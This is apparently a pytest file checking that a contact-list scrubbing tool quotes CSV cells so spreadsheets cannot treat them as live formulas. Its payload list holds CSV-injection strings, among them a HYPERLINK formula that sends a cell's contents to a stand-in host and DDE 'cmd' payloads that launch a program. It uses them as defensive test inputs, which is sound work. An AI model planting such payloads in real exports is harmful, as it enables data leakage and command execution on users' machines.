"""Issue 13, finding 7: no cell of a CSV licite writes is a live formula in a spreadsheet.

The list carries the payloads of the issue in every column a row can bring (its id,
its carried columns, its header, a row set aside); the files are then read
back with Python's csv module, cell by cell.
"""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Iterator
from pathlib import Path

import duckdb
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from licite.ledger import Ledger
from licite.scrub.duck import connect
from licite.scrub.outputs import _NEUTRALIZE, FORMULA_STARTS, safe_cell
from licite.scrub.run import scrub

PAYLOADS = [
    '=HYPERLINK("http://x/?"&A2,"y")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]
"""(A cell starting with a carriage return is neutralized too, see the last test: DuckDB's
sniffer cannot read a list holding one.)"""
CAMPAIGN = {
    "id": "spring",
    "at": "2026-03-10T11:00:00+01:00",
    "sender": {"id": "shop"},
    "request": {"action": "contact", "channel": "email", "purpose": "commercial"},
}
PHONE_ONLY = re.compile(r"[-+0-9 .()/]+")


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    monkeypatch.setenv("LICITE_DATABASE_URL", f"sqlite:///{tmp_path / 'ledger.db'}")
    monkeypatch.delenv("LICITE_KEY_DIR", raising=False)
    Ledger.open().close()  # the scrub reads a ledger, never makes one
    (tmp_path / "campaign.json").write_text(json.dumps(CAMPAIGN), encoding="utf-8")
    yield tmp_path


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def _live(cell: str, column: str) -> bool:
    """A cell a spreadsheet would take for a formula; a phone column's number is a value."""
    if not cell.startswith(FORMULA_STARTS):
        return False
    return not (column == "phone" and PHONE_ONLY.fullmatch(cell))


def _write_list(path: Path) -> None:
    rows = [["id", "kind", "email", "phone", "postal_code", "note", "=cmd|' /C calc'!A0"]]
    for number, payload in enumerate(PAYLOADS):
        rows.append(
            [payload, "consumer", f"p{number}@example.fr", "+33612345678", "75011", payload, "x"]
        )
        rows.append([f"C-{number}", "consumer", "", "", "", payload, payload])  # blocked
        rows.append([payload, "martian", "", "", "", payload, "x"])  # set aside
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)


def test_no_cell_of_the_outputs_is_a_formula(world: Path) -> None:
    _write_list(world / "contacts.csv")
    out = world / "out"
    scrub(world / "contacts.csv", world / "campaign.json", out)
    seen = 0
    for name in ("allowed.csv", "blocked.csv", "rejected.csv"):
        table = _cells(out / name)
        header = table[0]
        for row in table:
            for column, cell in zip(header, row, strict=True):
                assert not _live(cell, column), (name, column, cell)
                seen += cell.startswith("'")
    assert seen >= 3 * len(PAYLOADS)
    blocked = _cells(out / "blocked.csv")
    # The payload is kept, quoted: nothing of the list is lost.
    assert "'@SUM(1)" in {cell for row in blocked for cell in row}
    assert "'=cmd|' /C calc'!A0" in blocked[0]


def test_a_phone_number_in_the_phone_column_is_written_as_given(world: Path) -> None:
    (world / "contacts.csv").write_text(
        "id,kind,email,phone,postal_code,backup_number\n"
        "C-1,consumer,a@example.fr,+33 6 12 34 56 78,75011,+33612345679\n",
        encoding="utf-8",
    )
    scrub(world / "contacts.csv", world / "campaign.json", world / "out")
    with (world / "out" / "blocked.csv").open(encoding="utf-8", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["phone"] == "+33 6 12 34 56 78"
    assert row["backup_number"] == "'+33612345679"  # a carried column is any text: quoted


@pytest.fixture(scope="module")
def duck() -> Iterator[duckdb.DuckDBPyConnection]:
    con = connect(threads=1)
    for statement in _NEUTRALIZE:
        con.execute(statement)
    yield con
    con.close()


@settings(max_examples=300, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.one_of(st.text(max_size=20), st.sampled_from([*PAYLOADS, "\r=1+1", "+33 6 12"])))
def test_safe_cell_is_what_the_sql_does(duck: duckdb.DuckDBPyConnection, text: str) -> None:
    made = safe_cell(text)
    assert not made.startswith(FORMULA_STARTS)
    assert made == text or made == "'" + text
    if "\x00" not in text:
        row = duck.execute("SELECT csv_cell(?), csv_phone(?)", [text, text]).fetchone()
        assert row is not None
        assert row[0] == made
        assert row[1] == (text if PHONE_ONLY.fullmatch(text) else made)
